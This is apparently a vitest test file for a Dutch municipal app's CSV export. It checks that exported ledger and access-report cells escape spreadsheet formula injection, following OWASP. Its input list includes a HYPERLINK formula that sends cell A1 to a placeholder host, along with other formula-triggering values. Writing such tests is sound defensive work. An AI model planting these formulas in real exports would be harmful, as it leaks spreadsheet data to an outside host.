import { describe, expect, it } from 'vitest';
import { accessReportCsv } from '../../functions/audit/api';
import { toCsv as ledgerCsv } from '../../functions/budget/api';
import { csvDocument } from '../../functions/http/csv';
import type { AuditEntry } from '../../shared/domain/audit/audit';
import type { LedgerEntry } from '../../shared/domain/regelbudget/regelbudget-schemas';

const formulas = [
  '=HYPERLINK("https://x.example/?d="&A1;"klik")',
  '+31 6 1234',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

/** The cells of a CSV line written by csvDocument (semicolons, quotes doubled inside quoted cells). */
function cells(line: string): string[] {
  return [...line.matchAll(/("(?:[^"]|"")*"|[^;]*)(?:;|$)/g)].map((m) => m[1]!).slice(0, -1);
}

describe('one CSV writer for every export', () => {
  it('writes a Dutch spreadsheet CSV: BOM, semicolons, CRLF, quoted text, numbers as given', () => {
    const csv = csvDocument(
      [
        { header: 'datum', cell: (r: { d: string; n: number; t: string }) => r.d },
        { header: 'bedrag', cell: (r) => r.n },
        { header: 'tekst', cell: (r) => r.t, quoted: true },
      ],
      [
        { d: '2027-02-10', n: -250, t: 'Zei "ja"; morgen' },
        { d: '2027-02-11', n: 5, t: '' },
      ],
      { formatNumber: (n) => (n / 100).toFixed(2).replace('.', ',') },
    );
    expect(csv).toBe('\ufeffdatum;bedrag;tekst\r\n2027-02-10;-2,50;"Zei ""ja""; morgen"\r\n2027-02-11;0,05;""\r\n');
  });

  it('escapes a text cell that a spreadsheet would read as a formula (OWASP): a leading quote, and quoted', () => {
    for (const text of formulas) {
      const csv = csvDocument(
        [
          { header: 'a', cell: (r: string) => r },
          { header: 'b', cell: (r: string) => r, quoted: true },
        ],
        [text],
      );
      const line = csv.split('\r\n')[1]!;
      const quoted = `"'${text.replaceAll('"', '""')}"`;
      expect(line, JSON.stringify(text)).toBe(`${quoted};${quoted}`);
    }
  });

  it('escapes formulas in the municipality’s ledger, and keeps negative amounts numbers', () => {
    const entry: LedgerEntry = {
      id: 'l-1',
      transitionId: 't-1',
      gemeenteCode: 'GM0344',
      at: '2027-02-10T10:00:00.000Z',
      soort: 'geannuleerd',
      bedragCent: -1250,
      door: { id: 'u', naam: '@Pieter' },
      reden: '=1+1',
    } as LedgerEntry;
    const line = ledgerCsv([entry]).split('\r\n')[1]!;
    expect(cells(line)).toEqual([
      '2027-02-10',
      '10:00:00',
      't-1',
      '',
      'geannuleerd',
      '',
      '-12,50',
      `"'@Pieter"`,
      `"'=1+1"`,
    ]);
  });

  it('escapes formulas in the inzageverslag', () => {
    const entry = {
      id: 'a-1',
      at: '2027-02-10T10:00:00.000Z',
      actie: 'lezen',
      operatie: 'getTransition',
      onderdeel: 'traject',
      gebruiker: { id: 'u', naam: '-Kim', rol: 'begeleider', organisatieId: '+org' },
      noodtoegang: { reden: '=HYPERLINK("x")' },
    } as unknown as AuditEntry;
    const line = accessReportCsv([entry]).split('\r\n')[1]!;
    const c = cells(line);
    expect(c[2]).toBe(`"'-Kim"`);
    expect(c[4]).toBe(`"'+org"`);
    expect(c[8]).toBe(`"'=HYPERLINK(""x"")"`);
  });
});
